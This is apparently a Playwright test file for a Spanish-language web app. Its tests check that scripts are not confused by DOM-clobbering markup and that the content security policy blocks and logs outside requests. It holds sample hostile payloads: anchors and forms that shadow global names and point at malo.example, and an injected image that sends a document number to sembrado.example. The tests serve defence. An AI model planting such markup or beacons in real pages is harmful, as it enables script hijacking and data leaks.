import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { house } from './houses.ts'
import { expect, listen, test } from './journey.ts'
import { demoPassword, fillLogIn } from './people.ts'

const sources = ['apps/web/src', 'packages/ui/src'].map((folder) =>
  fileURLToPath(new URL(`../${folder}`, import.meta.url)),
)

/** Names that our scripts read from window and document. */
function namesRead(): { window: string[]; document: string[] } {
  const found = { window: new Set<string>(), document: new Set<string>() }
  for (const folder of sources) {
    for (const name of readdirSync(folder, { recursive: true, encoding: 'utf8' })) {
      if (!/\.tsx?$/.test(name) || name.includes('.test.')) continue
      const text = readFileSync(join(folder, name), 'utf8').replaceAll(/^.*\bfrom '.*'$/gm, '')
      for (const [, place, read = ''] of text.matchAll(
        /\b(window|globalThis|self|document)\.([A-Za-z_$][\w$]*)/g,
      )) {
        // A person's document is a string of that name.
        if (place === 'document' && read in String.prototype) continue
        found[place === 'document' ? 'document' : 'window'].add(read)
      }
    }
  }
  return { window: [...found.window], document: [...found.document] }
}

/** Names that the framework's start and our own code put on the window. */
const kept = [
  'amparoEarly',
  'amparoPruebas',
  'dataLayer',
  '__reactRouterContext',
  '__reactRouterManifest',
  '__reactRouterRouteModules',
  '__reactRouterVersion',
]

test('los scripts leen del navegador lo que es del navegador, y nada que un marcado pueda poner en su lugar', async ({
  page,
}) => {
  await page.goto('/robots.txt')
  const strange = await page.evaluate(({ window: ofWindow, document: ofDocument }) => {
    const frame = globalThis as Record<string, unknown>
    return [
      ...ofWindow.filter((name) => !(name in frame)),
      ...ofDocument.filter((name) => !(name in document)).map((name) => `document.${name}`),
    ]
  }, namesRead())
  // Written before they are read.
  expect(strange.toSorted()).toEqual([
    '__reactRouterManifest',
    '__reactRouterRouteModules',
    'amparoEarly',
    'amparoPruebas',
    'dataLayer',
  ])
})

test('un marcado sembrado con los nombres de los scripts no los confunde: la página anda y se puede entrar', async ({
  page,
}) => {
  const seeds = [
    ...kept,
    'trustedTypes',
    'portalConfig',
    'start',
    'defaultView',
    'currentScript',
    'body',
    'head',
  ]
    .map(
      (name) =>
        `<a id="${name}" href="https://malo.example/x.js"></a><a id="${name}" name="url" href="https://malo.example"></a><form id="${name}"><input name="basename" value="//malo.example"></form>`,
    )
    .join('')
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).host))
  await page.route('**/inicia', async (route) => {
    const answer = await route.fetch()
    const html = (await answer.text()).replace(/<body[^>]*>/, (body) => `${body}<div hidden>${seeds}</div>`)
    expect(html).toContain('malo.example')
    await route.fulfill({ response: answer, body: html })
  })
  const complaints = listen(page)
  await page.goto('/inicia')
  await fillLogIn(page, '10000001', demoPassword)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect(asked.filter((host) => host.includes('malo'))).toEqual([])
  // React reports the changed markup; nothing else may fail.
  expect(complaints.filter((complaint) => !/hydrat|Minified React error #418/i.test(complaint))).toEqual([])
})

test('lo que la política no deja pasar queda en el registro, sin nada de la persona', async ({ page }) => {
  const logged = () =>
    readFileSync(join(house.dataDir, 'amparo.log'), 'utf8')
      .split('\n')
      .filter((line) => line.includes('csp_report') && line.includes('sembrado.example'))
  await page.goto('/inicia?documento=10000001')
  await page.evaluate(() => {
    const picture = document.createElement('img')
    picture.src = 'https://sembrado.example/x.png?documento=10000001'
    document.body.append(picture)
  })
  await expect.poll(logged).not.toEqual([])
  expect(logged()[0]).toContain('"directive":"img-src","blocked":"https://sembrado.example","page":"/inicia"')
  expect(logged().join()).not.toContain('10000001')
})
